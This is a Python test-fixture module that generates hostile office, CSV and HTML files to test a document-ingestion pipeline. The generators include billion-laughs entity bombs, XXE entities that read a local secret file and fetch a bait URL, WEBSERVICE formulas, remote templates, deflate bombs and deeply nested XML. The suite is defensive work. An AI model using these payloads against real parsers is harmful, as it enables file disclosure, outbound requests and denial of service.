"""Office files: sheets without end, trees without bottom, entities that point outside."""

import zlib
from collections.abc import Iterable, Mapping

from pipeline.tests.files import docx_bytes, xlsx_bytes, zip_bytes
from pipeline.tests.hostile.archives import raw_zip
from pipeline.tests.hostile.cases import MIB, Bait, attached

XML = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = b"http://schemas.openxmlformats.org/package/2006/"
WORD = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SLIDE = b"http://schemas.openxmlformats.org/presentationml/2006/main"
DRAWING = b"http://schemas.openxmlformats.org/drawingml/2006/main"


def packed_zip(members: Mapping[str, Iterable[bytes]]) -> bytes:
    """A ZIP whose members are packed piece by piece and never held whole."""
    return raw_zip_checked([(name.encode(), *_packed(data)) for name, data in members.items()])


def _packed(pieces: Iterable[bytes]) -> tuple[bytes, int, int]:
    packer, out, size, crc = zlib.compressobj(6, zlib.DEFLATED, -15), [], 0, 0
    for piece in pieces:
        out.append(packer.compress(piece))
        size, crc = size + len(piece), zlib.crc32(piece, crc)
    return b"".join([*out, packer.flush()]), size, crc


def raw_zip_checked(members: list[tuple[bytes, bytes, int, int]]) -> bytes:
    """As archives.raw_zip, with each member's own checksum in both of its headers."""
    data = bytearray(raw_zip([(name, packed, size) for name, packed, size, _ in members]))
    at = line = 0
    line = data.rfind(b"PK\x05\x06")
    line = int.from_bytes(data[line + 16 : line + 20], "little")
    for name, packed, _, crc in members:
        data[at + 14 : at + 18] = data[line + 16 : line + 20] = crc.to_bytes(4, "little")
        at += 30 + len(name) + len(packed)
        line += 46 + len(name)
    return bytes(data)


def xlsx(parts: Mapping[str, Iterable[bytes]], *, sheets: int = 1) -> bytes:
    """A workbook whose parts are those given, around them what openpyxl and others ask for."""
    names = range(1, sheets + 1)
    book = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="r%d"/>' % (n, n, n) for n in names)
    relations = b"".join(
        b'<Relationship Id="r%d" Type="%b/worksheet" Target="worksheets/sheet%d.xml"/>'
        % (n, LINKS, n)
        for n in names
    )
    shared = b'<Relationship Id="s" Type="%b/sharedStrings" Target="sharedStrings.xml"/>' % LINKS
    sheet_type = b"application/vnd.openxmlformats-officedocument.spreadsheetml."
    types = b"".join(
        b'<Override PartName="/xl/worksheets/sheet%d.xml" ContentType="%bworksheet+xml"/>'
        % (n, sheet_type)
        for n in names
    )
    whole: dict[str, Iterable[bytes]] = {
        "[Content_Types].xml": [
            XML,
            b'<Types xmlns="%bcontent-types"><Default Extension="xml" ContentType="text/xml"/>'
            b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            b'relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType='
            b'"%bsheet.main+xml"/>%b</Types>' % (PACKAGE, sheet_type, types),
        ],
        "_rels/.rels": [
            b'<Relationships xmlns="%brelationships"><Relationship Id="r1" Type='
            b'"%b/officeDocument" Target="xl/workbook.xml"/></Relationships>' % (PACKAGE, LINKS)
        ],
        "xl/workbook.xml": [
            XML,
            b'<workbook xmlns="%b" xmlns:r="%b"><sheets>%b</sheets></workbook>'
            % (MAIN, LINKS, book),
        ],
        "xl/_rels/workbook.xml.rels": [
            b'<Relationships xmlns="%brelationships">%b%b</Relationships>'
            % (PACKAGE, relations, shared if "xl/sharedStrings.xml" in parts else b"")
        ],
    }
    whole |= {f"xl/worksheets/sheet{n}.xml": sheet([b"<row r='1'/>"]) for n in names}
    return packed_zip(whole | dict(parts))


def sheet(rows: Iterable[bytes]) -> Iterable[bytes]:
    yield XML + b'<worksheet xmlns="%b"><sheetData>' % MAIN
    yield from rows
    yield b"</sheetData></worksheet>"


SHEET = "xl/worksheets/sheet1.xml"


@attached("xlsx-with-one-far-cell", "a.xlsx")
def far_cell(_: Bait) -> bytes:
    far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return xlsx({SHEET: sheet([b'<row r="1"><c r="A1"><v>20</v></c></row>', far])})


@attached("xlsx-with-cells-out-of-order", "a.xlsx")
def wild_cells(_: Bait) -> bytes:
    rows = [
        b'<row r="%b"><c r="%b"><v>1</v></c></row>' % (row, cell)
        for row in (b"-1", b"0", b"99999999999999999999", b"x", b"1")
        for cell in (b"", b"A0", b"ZZZZZZZZZ1", b"A99999999999", b"1A", b"\xea\xb0\x801")
    ]
    return xlsx({SHEET: sheet(rows)})


@attached("xlsx-with-a-million-rows", "a.xlsx", "cut", "too-large")
def million_rows(bait: Bait) -> bytes:
    row = b"<row><c><v>1</v></c><c t='inlineStr'><is><t>20ft</t></is></c></row>" * 1000
    return xlsx({SHEET: sheet([row] * bait.of(1000, 10))})


@attached("xlsx-with-a-million-empty-rows", "a.xlsx")
def million_empty_rows(bait: Bait) -> bytes:
    """None of them counts against a cap on rows with text."""
    return xlsx({SHEET: sheet([b"<row/>" * 10_000] * bait.of(1000, 3))})


@attached("xlsx-with-a-million-columns", "a.xlsx")
def million_columns(bait: Bait) -> bytes:
    return xlsx({SHEET: sheet([b"<row>", *[b"<c/>" * 1000] * bait.of(2000, 10), b"</row>"])})


@attached("xlsx-with-10000-sheets", "a.xlsx", "cut", "damaged")
def many_sheets(bait: Bait) -> bytes:
    return xlsx({}, sheets=bait.of(10_000, 200))


@attached("xlsx-shared-strings-bomb", "a.xlsx", "too-large", "cut", "killed-memory", "killed-time")
def shared_strings(bait: Bait) -> bytes:
    strings = [b'<sst xmlns="%b">' % MAIN]
    strings += [b"<si><t>20ft</t></si>" * 10_000] * bait.of(400, 4) + [b"</sst>"]
    cells = b'<row><c t="s"><v>1</v></c></row>'
    return xlsx({SHEET: sheet([cells] * 3000), "xl/sharedStrings.xml": strings})


@attached("xlsx-with-one-long-string", "a.xlsx", "too-large", "cut", "killed-memory")
def long_string(bait: Bait) -> bytes:
    text = [b'<sst xmlns="%b"><si><t>' % MAIN, *[b"20ft " * 20_000] * bait.of(900, 12)]
    cells = b'<row><c t="s"><v>0</v></c></row>'
    shared = [*text, b"</t></si></sst>"]
    return xlsx({SHEET: sheet([cells] * 3000), "xl/sharedStrings.xml": shared})


@attached("xlsx-of-long-numbers", "a.xlsx")
def long_numbers(bait: Bait) -> bytes:
    digits = b"9" * bait.of(400_000, 5000)
    rows = [b"<row><c><v>%b%b</v></c></row>" % (digits, tail) for tail in (b"", b"e999999", b".1")]
    dates = [b'<row><c t="d"><v>9999999-99-99T99:99</v></c><c s="99999"><v>1</v></c></row>']
    return xlsx({SHEET: sheet([*rows, *dates])})


def entity_bomb(root: bytes) -> bytes:
    lines = b"".join(b'<!ENTITY e%d "%b">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
    return b"<!DOCTYPE %b [<!ENTITY e0 'lol'>%b]>" % (root, lines)


def outside(root: bytes, bait: Bait) -> bytes:
    """A document type whose entities are a file of ours and an address."""
    return (
        b'<!DOCTYPE %b SYSTEM "%bdtd" [<!ENTITY e11 SYSTEM "file://%b">'
        b'<!ENTITY web SYSTEM "%bxxe"><!ENTITY %% p SYSTEM "%bparameter"> %%p;]>'
        % (root, *[each.encode() for each in (bait.url, bait.secret, bait.url, bait.url)])
    )


def workbook_with(doctype: bytes) -> bytes:
    cells = b"<row><c t='inlineStr'><is><t>&e11;</t></is></c><c t='s'><v>0</v></c></row>"
    body = b'<worksheet xmlns="%b"><sheetData>%b</sheetData></worksheet>' % (MAIN, cells)
    shared = b'<sst xmlns="%b"><si><t>&e11;</t></si></sst>' % MAIN
    named = {
        "SHEET": doctype.replace(b"ROOT", b"worksheet"),
        "sst": doctype.replace(b"ROOT", b"sst"),
    }
    return xlsx({SHEET: [named["SHEET"], body], "xl/sharedStrings.xml": [named["sst"], shared]})


@attached("xlsx-entity-bomb", "a.xlsx", "damaged")
def xlsx_entities(_: Bait) -> bytes:
    return workbook_with(entity_bomb(b"ROOT"))


@attached("xlsx-that-reads-our-files", "a.xlsx", "damaged")
def xlsx_outside(bait: Bait) -> bytes:
    return workbook_with(outside(b"ROOT", bait))


@attached("xlsx-with-external-links", "a.xlsx")
def external_links(bait: Bait) -> bytes:
    relation = (
        b'<Relationships xmlns="%brelationships"><Relationship Id="r1" TargetMode="External" '
        b'Type="%b/externalLinkPath" Target="%bbook.xlsx"/></Relationships>'
        % (PACKAGE, LINKS, bait.url.encode())
    )
    cell = b"<row><c><f>WEBSERVICE('%b')</f><v>20</v></c></row>" % bait.url.encode()
    return xlsx({SHEET: sheet([cell]), "xl/externalLinks/_rels/externalLink1.xml.rels": [relation]})


@attached("xlsx-of-nested-elements", "a.xlsx")
def nested_cells(bait: Bait) -> bytes:
    depth = bait.of(1_000_000, 30_000)
    return xlsx(
        {SHEET: sheet([b"<row><c><is>", b"<x>" * depth, b"</x>" * depth, b"</is></c></row>"])}
    )


@attached("xlsx-sheet-bomb", "a.xlsx", "too-large", "killed-memory", "killed-time", "cut")
def sheet_bomb(bait: Bait) -> bytes:
    return xlsx({SHEET: sheet([b" " * MIB] * bait.of(1000, 110))})


@attached("xlsx-of-styles", "a.xlsx")
def styles(bait: Bait) -> bytes:
    formats = b'<styleSheet xmlns="%b"><cellXfs>' % MAIN
    pieces = [formats, *[b'<xf numFmtId="14"/>' * 1000] * bait.of(1500, 20)]
    return xlsx({"xl/styles.xml": [*pieces, b"</cellXfs></styleSheet>"]})


def docx(pieces: Iterable[bytes], **more: Iterable[bytes]) -> bytes:
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = (
        b'<Types xmlns="%bcontent-types"><Default Extension="rels" ContentType="text/xml"/>'
        b'<Override PartName="/word/document.xml" ContentType="%b"/></Types>' % (PACKAGE, kind)
    )
    return packed_zip(
        {"[Content_Types].xml": [types], "word/document.xml": pieces}
        | {name.replace("__", "/").replace("_xml", ".xml"): data for name, data in more.items()}
    )


def document(pieces: Iterable[bytes], doctype: bytes = b"") -> Iterable[bytes]:
    yield XML + doctype + b'<w:document xmlns:w="%b"><w:body>' % WORD
    yield from pieces
    yield b"</w:body></w:document>"


@attached("docx-with-600000-paragraphs", "a.docx", "cut", "killed-time")
def many_paragraphs(bait: Bait) -> bytes:
    paragraph = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 1000
    return docx(document([paragraph] * bait.of(600, 110)))


@attached("docx-with-empty-paragraphs", "a.docx")
def empty_elements(bait: Bait) -> bytes:
    """Elements that give no text, so no cap on characters ends the reading."""
    return docx(document([b"<w:r/>" * 100_000] * bait.of(150, 1)))


@attached("docx-nested-100000-deep", "a.docx")
def deep_docx(bait: Bait) -> bytes:
    depth = bait.of(100_000, 20_000)
    return docx(document([b"<w:sdt>" * depth, b"x", b"</w:sdt>" * depth]))


@attached("docx-of-nested-tables", "a.docx")
def nested_word_tables(bait: Bait) -> bytes:
    depth = bait.of(100_000, 5000)
    cell = b"<w:tbl><w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p>"
    return docx(document([cell * depth, b"</w:tc></w:tr></w:tbl>" * depth]))


@attached("docx-deflate-bomb", "a.docx", "cut", "too-large", "ratio", "damaged", "killed-time")
def docx_bomb(bait: Bait) -> bytes:
    return docx(document([b" " * MIB] * bait.of(4000, 70)))


@attached("docx-with-one-long-attribute", "a.docx", "damaged", "cut", "killed-memory", "too-large")
def long_attribute(bait: Bait) -> bytes:
    pieces = [b'<w:p a="', *[b"a" * MIB] * bait.of(300, 20), b'"/>']
    return docx(document(pieces))


@attached("docx-with-a-million-attributes", "a.docx")
def many_attributes(bait: Bait) -> bytes:
    given = b" ".join(b'a%d=""' % n for n in range(bait.of(1_000_000, 20_000)))
    return docx(document([b"<w:p " + given + b"/>"]))


@attached("docx-entity-bomb", "a.docx", "damaged")
def docx_entities(_: Bait) -> bytes:
    return docx(document([b"<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>"], entity_bomb(b"w:document")))


@attached("docx-that-reads-our-files", "a.docx", "damaged")
def docx_outside(bait: Bait) -> bytes:
    text = b"<w:p><w:r><w:t>&e11;&web;</w:t></w:r></w:p>"
    return docx(document([text], outside(b"w:document", bait)))


@attached("docx-with-a-template-from-outside", "a.docx")
def docx_template(bait: Bait) -> bytes:
    relation = (
        b'<Relationships xmlns="%brelationships"><Relationship Id="r1" TargetMode="External" '
        b'Type="%b/attachedTemplate" Target="%btemplate.dotm"/></Relationships>'
        % (PACKAGE, LINKS, bait.url.encode())
    )
    text = b"<w:p><w:r><w:t>20ft</w:t></w:r></w:p>"
    return docx(document([text]), **{"word___rels__settings_xml.rels": [relation]})


@attached("docx-with-two-documents", "a.docx")
def two_documents(_: Bait) -> bytes:
    """Two members of one name: what is checked must be what is read."""
    good, other = docx_bytes(["20ft"]), docx_bytes(["40ft"])
    return other + good


@attached("docx-cut-in-the-middle", "a.docx")
def cut_docx(_: Bait) -> bytes:
    data = docx_bytes(["20ft"] * 50)
    return data[: len(data) // 2]


def pptx(slides: Mapping[int, Iterable[bytes]]) -> bytes:
    kind = b"application/vnd.openxmlformats-officedocument.presentationml."
    relations = b"".join(
        b'<Relationship Id="r%d" Type="%b/slide" Target="slides/slide%d.xml"/>' % (n, LINKS, n)
        for n in slides
    )
    ids = b"".join(b'<p:sldId id="%d" r:id="r%d"/>' % (255 + n, n) for n in slides)
    types = b'<Override PartName="/ppt/presentation.xml" ContentType="%bpresentation.main+xml"/>'
    types = types % kind + b"".join(
        b'<Override PartName="/ppt/slides/slide%d.xml" ContentType="%bslide+xml"/>' % (n, kind)
        for n in slides
    )
    return packed_zip(
        {
            "[Content_Types].xml": [
                b'<Types xmlns="%bcontent-types"><Default Extension="rels" ContentType='
                b'"application/vnd.openxmlformats-package.relationships+xml"/>%b</Types>'
                % (PACKAGE, types)
            ],
            "_rels/.rels": [
                b'<Relationships xmlns="%brelationships"><Relationship Id="r1" Type='
                b'"%b/officeDocument" Target="ppt/presentation.xml"/></Relationships>'
                % (PACKAGE, LINKS)
            ],
            "ppt/presentation.xml": [
                b'<p:presentation xmlns:p="%b" xmlns:r="%b"><p:sldIdLst>%b</p:sldIdLst>'
                b"</p:presentation>" % (SLIDE, LINKS, ids)
            ],
            "ppt/_rels/presentation.xml.rels": [
                b'<Relationships xmlns="%brelationships">%b</Relationships>' % (PACKAGE, relations)
            ],
        }
        | {f"ppt/slides/slide{n}.xml": data for n, data in slides.items()}
    )


def slide(pieces: Iterable[bytes], doctype: bytes = b"") -> Iterable[bytes]:
    names = b'xmlns:p="%b" xmlns:a="%b"' % (SLIDE, DRAWING)
    yield doctype + b"<p:sld %b><p:cSld><p:spTree><p:sp><p:txBody>" % names
    yield from pieces
    yield b"</p:txBody></p:sp></p:spTree></p:cSld></p:sld>"


LINE = b"<a:p><a:r><a:t>20ft</a:t></a:r></a:p>"


@attached("pptx-of-10000-slides", "a.pptx", "cut")
def many_slides(bait: Bait) -> bytes:
    return pptx({n: list(slide([LINE])) for n in range(1, bait.of(10_000, 300) + 1)})


@attached("pptx-slide-bomb", "a.pptx")
def slide_bomb(bait: Bait) -> bytes:
    return pptx({1: slide([LINE * 20_000] * bait.of(1500, 30))})


@attached("pptx-nested-groups", "a.pptx")
def nested_groups(bait: Bait) -> bytes:
    depth = bait.of(100_000, 10_000)
    return pptx({1: slide([b"<p:grpSp>" * depth, LINE, b"</p:grpSp>" * depth])})


@attached("pptx-that-reads-our-files", "a.pptx", "damaged")
def pptx_outside(bait: Bait) -> bytes:
    text = b"<a:p><a:r><a:t>&e11;&web;</a:t></a:r></a:p>"
    return pptx({1: slide([text], outside(b"p:sld", bait))})


@attached("pptx-entity-bomb", "a.pptx", "damaged")
def pptx_entities(_: Bait) -> bytes:
    return pptx({1: slide([b"<a:p><a:r><a:t>&e11;</a:t></a:r></a:p>"], entity_bomb(b"p:sld"))})


def hwpx(pieces: Iterable[bytes], doctype: bytes = b"", *, sections: int = 1) -> bytes:
    names = (
        b'xmlns:hs="http://www.hancom.co.kr/hwpml/2011/section" '
        b'xmlns:hp="http://www.hancom.co.kr/hwpml/2011/paragraph"'
    )
    body = list(pieces)
    section = [doctype + b"<hs:sec %b>" % names, *body, b"</hs:sec>"]
    return packed_zip(
        {"mimetype": [b"application/hwp+zip"]}
        | {f"Contents/section{n}.xml": section for n in range(sections)}
    )


PARAGRAPH = b"<hp:p><hp:run><hp:t>20ft</hp:t></hp:run></hp:p>"


@attached("hwpx-bomb", "a.hwpx", "cut", "too-large", "damaged", "killed-time", "unsupported-kind")
def hwpx_bomb(bait: Bait) -> bytes:
    return hwpx([PARAGRAPH * 10_000] * bait.of(800, 20))


@attached("hwpx-of-10000-sections", "a.hwpx")
def many_sections(bait: Bait) -> bytes:
    return hwpx([PARAGRAPH], sections=bait.of(10_000, 300))


@attached("hwpx-of-nested-tables", "a.hwpx")
def nested_hwpx(bait: Bait) -> bytes:
    depth = bait.of(100_000, 5000)
    cell = b"<hp:tbl><hp:tr><hp:tc><hp:subList><hp:p>"
    return hwpx([cell * depth, b"</hp:p></hp:subList></hp:tc></hp:tr></hp:tbl>" * depth])


@attached("hwpx-that-reads-our-files", "a.hwpx", "damaged", "unsupported-kind")
def hwpx_outside(bait: Bait) -> bytes:
    text = b"<hp:p><hp:run><hp:t>&e11;&web;</hp:t></hp:run></hp:p>"
    return hwpx([text], outside(b"hs:sec", bait))


@attached("csv-with-one-field-of-100mb", "a.csv", "cut")
def long_field(bait: Bait) -> bytes:
    return b'a,"' + b"x" * (bait.of(25, 1) * MIB) + b'"\n'


@attached("csv-with-50000-columns", "a.csv")
def many_csv_columns(bait: Bait) -> bytes:
    row = b",".join(b"%d" % n for n in range(bait.of(50_000, 5000)))
    return (row + b"\n") * bait.of(40, 5)


@attached("csv-of-quotes", "a.csv")
def quotes(bait: Bait) -> bytes:
    return b'"",' * bait.of(2 * MIB, 50_000) + b'"'


@attached("html-file-of-nested-tables", "a.html")
def html_file(bait: Bait) -> bytes:
    return b"<html><table><tr><td>1" + b"<table><tr><td>1" * bait.of(100_000, 5000)


@attached("html-file-whose-beginning-backtracks", "a.bin")
def slow_html(_: Bait) -> bytes:
    return b"\n" * 2000 + b"<!-- -->" * 100 + b"<!--" * 300 + b"\n" * 600 + b"<"


@attached("text-file-in-utf-16", "a.txt")
def wide_text(bait: Bait) -> bytes:
    return b"\xff\xfe" + b"\0\xd8" * bait.of(10 * MIB, 100_000)


@attached("office-file-that-is-a-bomb-in-disguise", "a.pdf")
def disguised(bait: Bait) -> bytes:
    return zip_bytes({"[Content_Types].xml": b"", "xl/workbook.xml": bytes(bait.of(90, 20) * MIB)})


@attached("zip-of-far-cells", "a.zip")
def many_far_cells(bait: Bait) -> bytes:
    """Each file is read in its own time; the mail's deadline must hold for all of them."""
    slow = docx(document([b"<w:r/>" * bait.of(3_000_000, 1000)]))
    good = xlsx_bytes({"s": [["20ft"]]})
    names = {f"{n}.docx": slow for n in range(bait.of(100, 3))}
    return zip_bytes({**names, "last.xlsx": good})
